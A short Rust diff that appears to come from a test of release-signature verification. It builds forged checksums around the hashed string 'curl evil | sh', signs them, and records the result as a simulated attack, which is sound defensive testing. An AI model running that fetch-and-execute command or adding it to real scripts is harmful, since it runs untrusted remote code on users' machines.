@@ -400,7 +400,8 @@ fn steps(
         format!("{}  rget-tools.sh\n", sha256(b"curl evil | sh")).as_bytes(),
     ]
     .concat();
-    let evil_sig = crate::cli::release::sign_sums(&key_sec, &evil_sums)?;
+    let evil_sig =
+        crate::cli::release::sign_sums(&key_sec, &evil_sums, &format!("{base_url}SHA256SUMS"))?;
     write(&sums_path, &evil_sums)?;
     write(&rel_dir.join("SHA256SUMS.minisig"), &evil_sig)?;
     account.attacks.push(attack(
